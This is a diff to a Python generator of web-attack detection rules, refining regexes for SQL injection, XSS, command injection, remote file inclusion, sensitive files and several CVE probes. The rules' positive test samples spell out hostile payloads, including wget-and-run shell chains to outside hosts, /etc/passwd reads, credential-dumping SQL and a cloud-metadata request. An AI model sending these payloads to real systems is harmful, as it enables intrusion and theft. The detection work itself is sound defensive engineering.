@@ -20,6 +20,7 @@ import re
 import sys
 
 import genlib
+from httplog import CONTAINER_PREFIX
 
 # --------------------------------------------------------------------------
 # Access-log formats (imported read-only by rules/gen_http.py)
@@ -72,7 +73,7 @@ ACCESS_FORMATS = {
 # the client at its position, the request, the status, and referer and user
 # agent when present.  The vhost is told apart by the count of tokens before
 # `[` (4 with it, 3 without), so a client cannot shift the address.
-ACCESS_TEXT_REGEX = (r'^' + SYSLOG_PREFIX + r'(?:(?P<vhost>[^\s"]+) )?(?P<remote_addr>' + _ADDR + r') \S+ \S+ '
+ACCESS_TEXT_REGEX = (r'^' + CONTAINER_PREFIX + SYSLOG_PREFIX + r'(?:(?P<vhost>[^\s"]+) )?(?P<remote_addr>' + _ADDR + r') \S+ \S+ '
                      r'\[[^\]]+\] ' + _REQ + _TAIL + r'(?:' + _REF_UA + r')?')
 
 # The parser stages every web rule shares (ward-match runs them once per
@@ -181,16 +182,34 @@ SENSITIVE_EXTRA = [".env", ".git", ".svn", ".hg", ".bzr", ".cvs", "CVS/Root", ".
                    "actuator/env", "actuator/heapdump", "credentials.json", "secrets.json", "secrets.yml",
                    ".travis.yml", "docker-compose.yml", "docker-compose.yaml", "config/database.yml",
                    "app/etc/env.php", "debug.log", "error.log", "access.log", "storage/logs/laravel.log"]
-SENS_NAMES = sorted({w.lstrip("/") for w in RESTRICTED + SENSITIVE_EXTRA if w.strip("/")})
-# Archives and dumps of a whole site: the name says so (backup, db, www, the
-# site's domain), the extension is an archive or dump.
-BACKUP_RE = (r'/(?:[^/?]*[._-])?(?:backups?|bak|db|dump|database|mysql|sql|site|www|wwwroot|htdocs|html|public_html|web|'
-             r'webroot|home|root|data|old|new|archive|export|users)(?:[._-][^/?]*)?\.(?:sql|sql\.gz|sql\.zip|bak|zip|rar|7z|'
-             r'tar|tar\.gz|tgz|tar\.bz2|gz)(?:$|[?#])'
+# mod_status and mod_info pages: monitoring agents (apache_exporter, Zabbix,
+# Nagios check_http) scrape the machine-readable /server-status?auto every
+# few seconds and get 200 from the hosts mod_status allows; scanners read the
+# HTML page (no ?auto).  The ?auto form counts only when refused or missing.
+SENS_SERVED_OK = ["server-status", "server-info"]
+STATUS_PAGE_RE = r'/server-(?:status|info)(?:$|[/#]|\?(?!auto(?:$|&)))'
+STATUS_SCRAPE_RE = r'/server-(?:status|info)\?auto(?:$|&)'
+SENS_NAMES = sorted({w.lstrip("/") for w in RESTRICTED + SENSITIVE_EXTRA if w.strip("/")} - set(SENS_SERVED_OK))
+# Archives and dumps of a whole site: the name says so (backup, dump, db,
+# the site's domain), the extension is an archive or dump; any name with a
+# dump extension (.sql, .bak).  Ordinary words (data, web, new, export...)
+# with an archive extension are downloads a site offers (open-data.zip,
+# web-1.2.3.tar.gz): a guess only when the server does not have the file.
+_ARCHIVE_EXT = r'zip|rar|7z|tar|tar\.gz|tgz|tar\.bz2|gz'
+_WEAK_WORDS = r'(?:site|www|html|web|home|root|data|old|new|archive|export|users)'
+BACKUP_RE = (r'/(?:[^/?]*[._-])?(?:backups?|bak|db|dump|database|mysql|sql|wwwroot|htdocs|public_html|webroot)(?:[._-][^/?]*)?'
+             r'\.(?:sql|sql\.gz|sql\.zip|bak|' + _ARCHIVE_EXT + r')(?:$|[?#])'
+             r'|/(?:[^/?]*[._-])?' + _WEAK_WORDS + r'(?:[._-][^/?]*)?\.(?:sql|sql\.gz|sql\.zip|bak)(?:$|[?#])'
              r'|/[^/?]+\.(?:com|net|org|info|de|fr|io|co|uk|ru|nl)\.(?:sql|zip|rar|7z|tar|tar\.gz|tgz|gz|bak)(?:$|[?#])')
-HIDDEN_RE = r'/\.(?!(?:well-known|auth|netlify)(?:/|$|[?#]))[A-Za-z0-9_][^/?#]*'   # any hidden file: never served on purpose
+BACKUP_GUESS_RE = r'/(?:[^/?]*[._-])?' + _WEAK_WORDS + r'(?:[._-][^/?]*)?\.(?:' + _ARCHIVE_EXT + r')(?:$|[?#])'
+# Any other hidden path: a scanner's guess when missing or refused; one the
+# server answers is its own (Anubis serves /.within.website/ to browsers,
+# Azure /.auth/, Netlify /.netlify/).
+HIDDEN_RE = r'/\.(?!(?:well-known|auth|netlify)(?:/|$|[?#]))[A-Za-z0-9_][^/?#]*'
 SENSITIVE_RE = ('(?i)^[^?#]*(?:/' + trie(SENS_NAMES) + r'(?:$|[/?#~]|\.(?:bak|old|orig|save|swp|swo|tmp|temp|txt|1|2|dist|copy|back|backup|zip|tar\.gz|gz)(?:$|[?#]))'
-                '|' + BACKUP_RE + '|' + HIDDEN_RE + r').*')
+                '|' + STATUS_PAGE_RE + '|' + BACKUP_RE + r').*')
+SENSITIVE_GUESS_RE = '(?i)^[^?#]*(?:' + STATUS_SCRAPE_RE + '|' + BACKUP_GUESS_RE + '|' + HIDDEN_RE + r').*'
+
 
 # OS files a file-inclusion attack reads: CRS lfi-os-files.data, the entries
 # under the system directories (the dot-files there are sensitive-file names,
@@ -210,7 +229,8 @@ SQLI = (r"""(?is).*(?:'\s*(?:or|and|xor|\|\||&&)\s+['"(]?\w*['")]?\s*(?:=|like\b
         r"""|\border\s+by\s+\d+\s*(?:--|#|/\*)|\b(?:sleep|pg_sleep)\s*\(\s*\d+(?:\.\d+)?\s*\)|\bbenchmark\s*\(\s*\d+\s*,"""
         r"""|\bwaitfor\s+delay\s+'|;\s*(?:drop|delete|insert|update|create|alter|truncate|exec|shutdown|declare|waitfor|select)\s"""
         r"""|\b(?:extractvalue|updatexml)\s*\(|@@(?:version|datadir|hostname)|information_schema|\bconcat(?:_ws)?\s*\(\s*0x|\bload_file\s*\("""
-        r"""|\binto\s+(?:out|dump)file\b|(?:,\s*null\s*){2,}|\|\|\s*chr\s*\(|\bselect\s*(?:char|chr|ascii)\s*\(|\bselect\s+.{0,80}\bfrom\s+\w*(?:users?|admin|mysql|pg_|sys|dual)\b).*""")
+        r"""|\binto\s+(?:out|dump)file\b|\bselect\s+null\s*(?:,\s*null\s*)+|(?:,\s*null\s*){2,}(?=$|--|#|/\*|[)&'";])|\|\|\s*chr\s*\("""
+        r"""|\bselect\s*(?:char|chr|ascii)\s*\(|\bselect\s+(?:(?:distinct|all|top\s+\d+)\s+)?[\w.\x60"'()@*|:]+(?:\s*,\s*[\w.\x60"'()@*|:]+)*\s+from\s+\w*(?:users?|admin|mysql|pg_|sys|dual)\b).*""")
 # Probing: an SQL function call as the whole start of a parameter value (a
 # scanner's probe word), counted only towards the alert's threshold.
 SQLI_PROBE = (r"""(?is).*[?&][^=&]*=[\s'"(]*(?:benchmark|load_file|substr|substring|char|chr|ascii|distinct|pg_sleep|sleep|"""
@@ -218,14 +238,22 @@ SQLI_PROBE = (r"""(?is).*[?&][^=&]*=[\s'"(]*(?:benchmark|load_file|substr|substr
 TRAV = (r"""(?is).*(?:\.\.[/\\]|[/\\]\.\.(?:$|[/\\?#;])|\.\.;/|(?:^|[/\\=])(?:[a-z]:)?[/\\]*""" + trie(LFI_FILES) + r"""(?:$|[?&#\x00;])"""
         r"""|/proc/self/|\b(?:php|phar|zip|data|expect|glob|compress\.zlib)://|file:/{1,3}[a-z/]|\x00|\b(?:win|boot|system)\.ini\b).*""")
 TRAV_RAW = r"""(?i).*(?:%c0%ae|%e0%80%ae|%c0%af|%c1%9c|%25c0%25ae|%uff0e|%u002e).*"""
-RFI = (r"""(?is).*(?:[?&][^=&]*=\s*(?:(?:https?|ftps?)://(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[^&?#]+\?$|[^&]*\.(?:txt|php|jpg|gif)\?+$)"""
+RFI = (r"""(?is).*(?:[?&][^=&]*=\s*(?:(?:https?|ftps?)://(?:(?!(?:127|10)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[^&?#]+\?$|[^&]*\.(?:txt|php|jpg|gif)\?+$)"""
        r"""|(?:https?|ftps?)://[^&]*(?:rfiinc\.txt|c99\.txt|r57\.txt|shell\.txt|/w3af/remotefileinclude\.html))"""
        r"""|[?&](?:include|inc|require|mosconfig_absolute_path|_conf\[[^\]]*\]|gallery_basedir|phpbb_root_path|base_dir|template_path|pear_dir)=\s*(?:https?|ftps?)://).*""")
 XSS = (r"""(?is).*(?:(?:<|&lt;|\\x3c|\\u003c)\s*/?\s*(?:script|img|svg|iframe|frame|body|object|embed|style|link|meta|details|video|audio|input|form|math|base|marquee|isindex|xss)\b"""
-       r"""|\b(?:java|vb)script\s*:|\bon(?:error|load|mouseover|focus|click|toggle|begin|animationstart|pointerover|mouseenter|start|blur)\s*="""
+       r"""|\b(?:java|vb)script\s*:|(?:^|[\s"'\x60/;])on(?:error|load|mouseover|focus|click|toggle|begin|animationstart|pointerover|mouseenter|start|blur)\s*="""
        r"""|document\.(?:cookie|domain|location|write)|\beval\s*\(|\balert\s*\(\s*(?:\d+|document|window|origin|/|\x60|'xss)|\bprompt\s*\(\s*\d|String\.fromCharCode\s*\().*""")
-CMDI = (r"""(?is).*(?:(?:[;|&\x60\n]|\$\(|\|\|)\s*(?:/(?:usr/)?s?bin/)?(?:cat|id|uname|whoami|wget|curl|sh|bash|nc|ncat|netcat|ping|ls|rm|chmod|python[0-9.]*|perl|php|powershell|cmd|tftp|busybox|echo|nslookup|sleep|touch|cd)(?:\s|\$\{IFS\}|\+|$|[;|&\x60)])"""
-        r"""|\$\([^)]*\)|\x60[^\x60]+\x60|\$\{IFS\}|\$IFS\b|/dev/(?:tcp|udp)/|(?:[;|&=]|\$\()\s*/?""" + trie(SHELL_WORDS) + r"""\b).*""")
+# A command after a separator must be followed by what a shell command line
+# holds (an option, a path, a number, a URL, a dotted file or host name, or
+# another separator): `; cat and mouse` in a wiki search is prose.  `$(...)`
+# and backticks must open with a command: `$(document)` is jQuery, and
+# backticks quote code in Markdown (`git status`).
+SHELL_CMD = (r"""(?:/(?:usr/)?s?bin/)?(?:cat|id|uname|whoami|wget|curl|sh|bash|nc|ncat|netcat|ping|ls|rm|chmod|python[0-9.]*|perl|php|"""
+             r"""powershell|cmd|tftp|busybox|echo|nslookup|sleep|touch|cd|base64|nohup|ftpget)""")
+SHELL_ARGS = r"""(?:\$\{IFS\}|$|[;|&\x60)>\n]|[\s+]+(?:[-/.~$'"\\<>*\d]|(?:https?|ftp)://|[\w-]+\.[\w.-]+|[\w.-]+\s*[;|&\x60>]))"""
+CMDI = (r"""(?is).*(?:(?:[;|&\x60\n]|\|\|)\s*""" + SHELL_CMD + SHELL_ARGS +
+        r"""|\$\(\s*""" + SHELL_CMD + r"""\b[^)]*\)|\x60\s*""" + SHELL_CMD + r"""\b[^\x60]*\x60|\$\{IFS\}|\$IFS\b|/dev/(?:tcp|udp)/|(?:[;|&=]|\$\()\s*/?""" + trie(SHELL_WORDS) + r"""\b).*""")
 SHELLSHOCK = r"""(?s).*\(\)\s*\{[^}]*\}\s*;.*"""
 # Log4Shell (CVE-2021-44228/45046): `${jndi:`, and the nested lookups that
 # spell it (`${${lower:j}ndi:`, `${${::-j}${::-n}...`, `${j${k8s:k5:-ND}i:`).
@@ -250,13 +278,20 @@ ADMIN = (r"""(?i)^[^?]*(?:/phpmyadmin|/phpmy-admin|/pma\d*/|/myadmin|/mysqladmin
 SAP = (r"""(?i)^(?:[^?]*/sap/(?:bc/|opu/odata/|public/(?:bc/|info|icf_info)|admin/|hana/xs/)|/irj/(?:portal|go/km/)|/nwa(?:$|[/?])|"""
        r"""[^?]*/webdynpro/dispatcher/|[^?]*/ctc/servlet/|[^?]*/sap/wdisp/admin).*""")
 WORDPRESS = r"""(?i)^[^?]*(?:/wp-(?:admin|content|includes)/?$|/wp-[^/?]*\.php|/wp-(?:content|includes|admin)/[^?]*\.(?:php|txt|md|json)|/xmlrpc\.php|/wp-json/wp/v2/users|/wordpress/|/wp/)(?:$|[?#]).*"""
-TECH = (r"""(?i)^[^?]*(?:/crx/(?:packmgr|de|explorer)|/libs/granite/|/bin/querybuilder\.json|/system/console|/etc/packages|/vpn/index\.html|/logon/logonpoint/|"""
+# Products whose API sits at the server's root are matched there only
+# (VMware's /sdk, the Kubernetes API's list endpoints, Jenkins' script
+# console): a site's own /docs/sdk/ or /api/v1/nodes/42 answering 404 is a
+# broken link or a missing record, not a probe.  Scanner fingerprints:
+# Nmap's /nmaplowercheck<time>, Polycom's provisioning file y000000000000.cfg.
+TECH = (r"""(?i)^(?:/sdk(?:/.*)?$|/api/v1/(?:pods|nodes|namespaces)/?(?:\?.*)?$|/api/v1/namespaces/[^/?]+/(?:pods|secrets|configmaps|serviceaccounts)(?:[/?].*)?$"""
+        r"""|/(?:hudson/|jenkins/)?script/?(?:\?.*)?$"""
+        r"""|[^?]*(?:/nmaplowercheck\d+|/y000000000000\.cfg|/crx/(?:packmgr|de|explorer)|/libs/granite/|/bin/querybuilder\.json|/system/console|/etc/packages|/vpn/index\.html|/logon/logonpoint/|"""
         r"""/citrix/|/tmui/|/mgmt/tm/|/remote/(?:login|fgt_lang)|/global-protect/|/ssl-vpn/|/dana-na/|/dana-cached/|/[+ ]csco[et][+ ]/|/owa/auth/|/ecp/|/autodiscover/autodiscover\.xml|"""
-        r"""/vsphere-client/|/ui/vropspluginui/|/sdk(?:$|/)|/mifs/|/jmx-console/|/wls-wsat/|/_async/|/console/login/loginform\.jsp|/actuator(?:$|/)|/_ignition/|/telescope/|"""
+        r"""/vsphere-client/|/ui/vropspluginui/|/mifs/|/jmx-console/|/wls-wsat/|/_async/|/console/login/loginform\.jsp|/actuator(?:$|/)|/_ignition/|/telescope/|"""
         r"""/solr/|/hnap1|/boaform/|/gponform/|/ctrlt/|/hedwig\.cgi|/getcfg\.php|/sdk/weblanguage|/doc/page/login\.asp|/goform/|/webui/|/cgi-bin/[^?/]*\.(?:cgi|sh|pl|asp)|/cgi/[^?/]*\.cgi|"""
-        r"""/api/v1/(?:pods|namespaces|nodes)|/v\d\.\d+/containers/json|/containers/json|/app/kibana|/api/jsonws/|/jolokia|/druid/|/nacos/|/seeyon/|/weaver/|/mifs/|/zimbra/|/service/extension/|"""
+        r"""/v\d\.\d+/containers/json|/containers/json|/app/kibana|/api/jsonws/|/jolokia|/druid/|/nacos/|/seeyon/|/weaver/|/mifs/|/zimbra/|/service/extension/|"""
         r"""/confluence/|/pages/createpage-entervariables\.action|/rest/tinymce/|/s/[^/]*/_/|/servicedesk/|/plugins/servlet/|/vendor/phpunit/|/phpunit/|/level/\d+/exec/|/cgi-mod/|/portal/redlion|"""
-        r"""/webtools/control/|/ofbiz|/nifi-api/|/geoserver/|/struts2?-showcase|/invoker/jmxinvokerservlet|/manager/text/|/evox/|/vpns/|/php/login\.php|/ui/login\.php).*""")
+        r"""/webtools/control/|/ofbiz|/nifi-api/|/geoserver/|/struts2?-showcase|/invoker/jmxinvokerservlet|/manager/text/|/evox/|/vpns/|/php/login\.php|/ui/login\.php)).*""")
 SCANNER_UA = "(?i).*" + trie(UA_WORDS) + ".*"
 
 # --------------------------------------------------------------------------
@@ -319,6 +354,11 @@ CVE_PROBES = [
     ("CVE-2023-20198", "Cisco IOS XE web UI implant check", r"/webui/logoutconfirm\.html\?logon_hash=", "", "logon_hash"),
     ("CVE-2024-3400", "PAN-OS GlobalProtect SESSID path traversal probe", r"/global-protect/portal/images/[^?]*\.txt$|/ssl-vpn/hipreport\.esp", "", "global-protect"),
     ("CVE-2023-4966", "Citrix Bleed oversized Host probe on the OpenID endpoint", r"/oauth/idp/\.well-known/openid-configuration", "", "openid-configuration"),
+    ("CVE-2020-25078", "D-Link DCS IP camera administrator password disclosure", r"^/config/getuser\?(?:.*&)?index=", "", "getuser"),
+    ("XDEBUG-DBGP", "Xdebug remote debugging trigger: with xdebug.remote_connect_back the server connects back to the client "
+     "and runs its DBGp commands (Metasploit xdebug_unauth_exec); no production site runs it", r"[?&]XDEBUG_SESSION_START=", "", "XDEBUG_SESSION_START"),
+    ("THINKCMF-FETCH", "ThinkCMF 1.x/2.x template injection: a=fetch (or display) with PHP in the content parameter",
+     r"[?&]a=(?:fetch|display)&(?:.*&)?(?:content|templateFile)=[^&]*<php>", "", "<php>|%3cphp"),
     ("CVE-2019-19781", "Citrix ADC path traversal (/vpn/../vpns/)", r"/vpn/\.\./vpns/|/vpns/(?:portal/scripts/newbm\.pl|cfg/smb\.conf)", "", "vpns"),
 ]
 # Raw-URI CVE checks: the encoding is the signature, so they read request_uri.
@@ -376,11 +416,13 @@ SIGNATURES = [
        "/products?id=1%20UnIoN/**/SeLeCt%20username,password%20FROM%20users", "/products?id=1%27%20AND%20sleep%285%29%23",
        "/products?id=1%20AND%20benchmark(5000000,md5(1))", "/products?id=1%2527%2520OR%25201%253D1",
        "/api/v1/items?page=1;DROP%20TABLE%20users--", "/products?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
-       "/foo?a=%20union%20select%20", "/foo?a=%2cnull%2cnull", "/foo?a=load_file%28%27/etc/passwd%27%29"],
+       "/foo?a=%20union%20select%20", "/foo?a=%2cnull%2cnull", "/foo?a=load_file%28%27/etc/passwd%27%29",
+       "/item?id=(select+null,null,null)", "/item?id=1+and+(select+count(*)+from+users)>0", "/item?id=-1;select+name,pass+from+users"],
   neg=["/search?q=select+a+plan", "/blog/union-station-renovation", "/search?q=O%27Reilly+books", "/search?q=O'Brien",
        "/products?sort=order_by_date", "/wiki/Drop_table_(furniture)", "/search?q=1%3D1+math+worksheet",
        "/search?q=sleep+tracker+app", "/search?q=benchmark+results", "/search?q=--help", "/api/v1/items?page=2&id=5",
-       "/search?q=null+and+void", "/search?q=rock+%27n%27+roll", "/search?q=select+from+our+catalog"]),
+       "/search?q=null+and+void", "/search?q=rock+%27n%27+roll", "/search?q=select+from+our+catalog",
+       "/search?q=select+a+hotel+from+users+reviews", "/search?q=how+to+select+from+users+table", "/chart?data=[1,null,null,4]&type=line"]),
  dict(name="SQLInjectionProbe", sev="low", tactic="reconnaissance", tech="T1595.002",
   pre=pf(["(", "%28", "%2528"]), filt="uri =~ " + q(SQLI_PROBE),
   summary="SQL injection probe word from {{ $labels.src_ip }}: {{ $labels.uri }}",
@@ -403,31 +445,37 @@ SIGNATURES = [
  dict(name="RemoteFileInclude", sev="high", tactic="initial-access", tech="T1190",
   pre=pf(["://", "%3a%2f%2f", "%3A%2F%2F"]), filt="uri =~ " + q(RFI),
   summary="remote file inclusion attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
-  desc="A query parameter's value is a URL to an IP address, a URL that ends with ? (cutting off the suffix the application appends), a known RFI test file, or a URL given to an include/require-style parameter.",
+  desc="A query parameter's value is a URL to a public IP address (a loopback or private address cannot serve the attacker's code: CLI and LAN apps pass http://127.0.0.1:PORT/ as an OAuth redirect_uri, RFC 8252), a URL that ends with ? (cutting off the suffix the application appends), a known RFI test file, or a URL given to an include/require-style parameter.",
   pos=["/index.php?page=http://198.51.100.9/shell.txt?", "/index.php?page=http%3A%2F%2F203.0.113.5%2Fx", "/modules.php?include=https://evil.example/c99.txt",
-       "/index.php?file=ftp://203.0.113.5/a.php??"],
+       "/index.php?file=ftp://203.0.113.5/a.php??", "/fetch?url=http://169.254.169.254/latest/meta-data/"],
   neg=["/login?redirect=https://www.example.com/account", "/share?url=https%3A%2F%2Fnews.example.org%2Fstory%3Fid%3D5",
-       "/oauth/callback?redirect_uri=https://app.example.com/cb"]),
+       "/oauth/callback?redirect_uri=https://app.example.com/cb",
+       "/oauth2/authorize?response_type=code&redirect_uri=http%3A%2F%2F127.0.0.1%3A9876%2Fcallback&client_id=TuNRKZ&code_challenge_method=S256",
+       "/auth/login?redirect_uri=http://192.168.1.10:8123/auth/callback", "/setup?next=http://10.0.0.5:8080/"]),
  dict(name="CrossSiteScripting", sev="medium", tactic="initial-access", tech="T1189",
   pre=pf(["<", "%3c", "%253c", "&lt;", "\\x3c", "\\u003c", "script", "on", "document", "eval", "alert", "prompt", "fromcharcode"]),
   filt="uri =~ " + q(XSS),
   summary="cross-site scripting attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
-  desc="Request URI (decoded twice) holds an active HTML tag (script, img, svg, iframe, ... also as &lt;), a javascript: URI, an on*= event handler, document.cookie, alert(1)-style calls.",
+  desc="Request URI (decoded twice) holds an active HTML tag (script, img, svg, iframe, ... also as &lt;), a javascript: URI, an on*= event handler inside a tag (after a space, quote or /; a parameter named onload= is not one), document.cookie, alert(1)-style calls.",
   pos=["/search?q=<script>alert(1)</script>", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/search?q=<svg/onload=alert(1)>",
        "/redirect?url=javascript:alert(document.domain)", "/search?q=%3CiFrAmE%20src%3Djavascript%3Aalert%281%29%3E",
-       "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "/log?file=&lt;/td&gt;&lt;script src=/x&gt;"],
+       "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "/log?file=&lt;/td&gt;&lt;script src=/x&gt;",
+       "/search?q=%22onmouseover%3Dalert(1)%20x%3D%22", "/p?name=x%27%20onfocus%3Dprompt(1)%20autofocus%3D%27"],
   neg=["/api/v1/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/docs/scripting/script-tags-explained", "/forum/thread?id=42&title=alert%28%29+not+working",
-       "/search?q=online+store", "/docs/events/onload-handler"]),
+       "/search?q=online+store", "/docs/events/onload-handler", "/recaptcha/api.js?onload=onloadCallback&render=explicit",
+       "/embed?autoplay=1&onload=true"]),
  dict(name="CommandInjection", sev="high", tactic="execution", tech="T1059.004",
   pre=pf([";", "|", "`", "$(", "${", "%3b", "%7c", "%60", "%24", "%26", "&&", "%0a", "bin/", "/dev/"]),
   filt="uri =~ " + q(CMDI),
   summary="command injection attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
-  desc="Request URI (decoded twice) chains a shell command after ; | & or backticks, uses $(...), ${IFS}, /dev/tcp, or names a shell binary from the CRS unix-shell list after a separator.",
+  desc="Request URI (decoded twice) chains a shell command after ; | & or a newline (followed by an option, path, number, URL, dotted name or another separator, so prose like '; cat and mouse' does not count), opens $(...) or backticks with a command, uses ${IFS}, /dev/tcp, or names a shell binary from the CRS unix-shell list after a separator.",
   pos=["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/export?name=x%7Cid", "/tools?ip=%24(id)", "/search?q=%60uname%20-a%60",
        "/shell?cd+/tmp;wget+http://198.18.0.9/x.sh;sh+x.sh", "/index.php?login=$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
-       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"],
+       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/",
+       "/ping?host=127.0.0.1%3Bnslookup+abc123.oast.fun", "/diag?ip=1.1.1.1|id", "/x?a=%0Aid%0A", "/x?a=1;sh+netgear&b=2"],
   neg=["/api/v1/items?page=2&id=5", "/search?q=cat+food", "/api/v1/orders?status=open&page=3", "/search?q=--help",
-       "/search?q=rock+%26+roll", "/search?q=tom+%26+jerry+id", "/bin/downloads/catalog.pdf"]),
+       "/search?q=rock+%26+roll", "/search?q=tom+%26+jerry+id", "/bin/downloads/catalog.pdf",
+       "/wiki/Special:Search?search=Tom+%26+Jerry%3B+cat+and+mouse", "/search?q=%60git+status%60", "/search?q=%24(document).ready"]),
  dict(name="Shellshock", sev="critical", tactic="initial-access", tech="T1190",
   pre=pf(["()"]), filt="user_agent =~ " + q(SHELLSHOCK) + " or referer =~ " + q(SHELLSHOCK) + " or uri =~ " + q(SHELLSHOCK),
   summary="Shellshock (CVE-2014-6271) probe from {{ $labels.src_ip }}",
@@ -479,7 +527,8 @@ SIGNATURES = [
        "/remote_agent.php?action=polldata&poller_id=;touch%20/tmp/x&host_id=1&local_data_ids[]=1",
        "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php",
        {"uri": "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", "method": "POST", "status": "401"},
-       "/vendor/htmlawed/htmlawed/htmLawedTest.php",
+       "/vendor/htmlawed/htmlawed/htmLawedTest.php", "/config/getuser?index=0", "/?XDEBUG_SESSION_START=phpstorm",
+       "/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>", "/index.php?a=fetch&content=%3Cphp%3Efile_put_contents(%27x.php%27,%27%27)%3C/php%3E",
        {"uri": "/index.php?login=$(echo${IFS}aWQ=|base64${IFS}-d|bash)", "method": "POST", "status": "302"},
        "/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1",
@@ -497,7 +546,7 @@ SIGNATURES = [
        {"uri": "/search?q=what+is%3f", "status": "200"}, {"uri": "/etc/passwd%3f", "status": "200"}, {"uri": "/bar/bar?foobar=toto%3f", "status": "404"},
        {"uri": "/zm/index.php?view=request&request=log&task=create&level=ERR&message=x&file=http://zm/&line=70", "method": "POST", "status": "200"},
        "/blog/thinkphp-review", "/docs/phpunit/assertions", {"uri": "/index.php?login=valid", "method": "POST", "status": "302"},
-       "/cgi-bin/.test/status"]),
+       "/cgi-bin/.test/status", "/docs/config/getuser-guide.html", "/docs/xdebug?mode=debug", "/?a=fetch&content=latest-news"]),
  dict(name="WebshellProbe", sev="medium", tactic="persistence", tech="T1505.003",
   pre=pf([".php", ".asp", ".jsp", ".phtml"]), filt="uri =~ " + q(WEBSHELL) + ", uri !~ " + q(WEBSHELL_SAFE) + " or uri =~ " + q(WEBSHELL) + ", " + ST404,
   summary="web shell or backdoor request from {{ $labels.src_ip }}: {{ $labels.uri }}",
@@ -506,14 +555,18 @@ SIGNATURES = [
   neg=[{"uri": "/about.php", "status": "200"}, {"uri": "/shell.php", "status": "200"}, "/docs/c99-standard.html", "/products/alfa-romeo"]),
  dict(name="WebSensitiveFile", sev="medium", tactic="credential-access", tech="T1552.001",
   pre="|~ " + q("(?i)/\\.|/wp-config|/id_|\\.(?:sql|bak|zip|rar|7z|tar|tgz|gz|old|orig|swp|save|yml|yaml|xml|json|log|php|config|conf|lock|ini|js)|server-|actuator|phpinfo|dockerfile|cvs|nbproject|/sites/default/"),
-  filt="uri =~ " + q(SENSITIVE_RE),
+  filt="uri =~ " + q(SENSITIVE_RE) + " or uri =~ " + q(SENSITIVE_GUESS_RE) + ", " + ST404,
   summary="request for a sensitive file from {{ $labels.src_ip }}: {{ $labels.uri }}",
-  desc="Request for a file that holds secrets, source or configuration (CRS restricted-files list: .htpasswd, .bash_history, .git/, .svn/, wp-config.php and its backups, .ssh/id_rsa, composer.json...; plus .env, .aws/, id_rsa, backups and dumps of the site: backup.zip, db.sql, www.example.com.tar.gz), or any hidden file but /.well-known/.",
+  desc="Request for a file that holds secrets, source or configuration (CRS restricted-files list: .htpasswd, .bash_history, .git/, .svn/, wp-config.php and its backups, .ssh/id_rsa, composer.json...; plus .env, .aws/, id_rsa, backups and dumps of the site: backup.zip, db.sql, www.example.com.tar.gz); when missing or refused (404, 403, 410) also any other hidden path, /server-status?auto (the monitoring scrape) and archives with ordinary names (data.zip, web.tar.gz), which a site may serve on purpose.",
   pos=["/.env", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-config.php", "/wp-config.php.bak", "/.wp-config.php.swp",
        "/db.sql", "/backup.zip", "/.DS_Store", "/actuator/env", "/server-status", "/.htpasswd", "/.bash_history", "/.ssh/id_rsa",
-       "/www.example.com.tar.gz", "/site-backup.sql.gz", "/.listing", "/composer.json"],
+       "/www.example.com.tar.gz", "/site-backup.sql.gz", "/.listing", "/composer.json", {"uri": "/.DS_Store", "status": "200"},
+       {"uri": "/data.zip", "status": "404"}, {"uri": "/server-status", "status": "200"}, {"uri": "/server-status?auto", "status": "403"}, {"uri": "/.within.website/x", "status": "404"}],
   neg=["/environment", "/docs/getting-started", "/blog/2024/05/scaling-postgres", "/static/img/logo.svg", "/.well-known/acme-challenge/abc", "/web/.well-known",
-       "/my.profile.html", "/downloads/app-1.2.zip", "/api/users.json", "/static/js/app.9b1d2e.js"]),
+       "/my.profile.html", "/downloads/app-1.2.zip", "/api/users.json", "/static/js/app.9b1d2e.js",
+       {"uri": "/server-status?auto", "status": "200"}, {"uri": "/downloads/open-data.zip", "status": "200"},
+       {"uri": "/files/web-1.2.3.tar.gz", "status": "200"},
+       {"uri": "/.within.website/x/cmd/anubis/api/pass-challenge?response=abc&nonce=1", "status": "200"}]),
  dict(name="WebAdminProbe", sev="low", tactic="reconnaissance", tech="T1595.003",
   pre=pf(["admin", "pma", "manager", "console", "cpanel", "whm", "plesk", "webmin", "cscoe", "cscot", "luci", "webproc", "jenkins",
           "zabbix", "nagios", "cacti", "phpsysinfo", "xampp", "typo3", "bitrix", "umbraco", "sitecore", "install.php", "setup-config", "ghost", "invoker", "axis",
@@ -544,14 +597,19 @@ SIGNATURES = [
   neg=[{"uri": "/wp-login.php", "status": "200"}, {"uri": "/wp-content/uploads/2024/05/photo.jpg", "status": "404"},
        {"uri": "/blog/wp-tips", "status": "404"}, {"uri": "/wp-admin/admin-ajax.php", "status": "200"}]),
  dict(name="WebTechnologyProbe", sev="low", tactic="reconnaissance", tech="T1595.002",
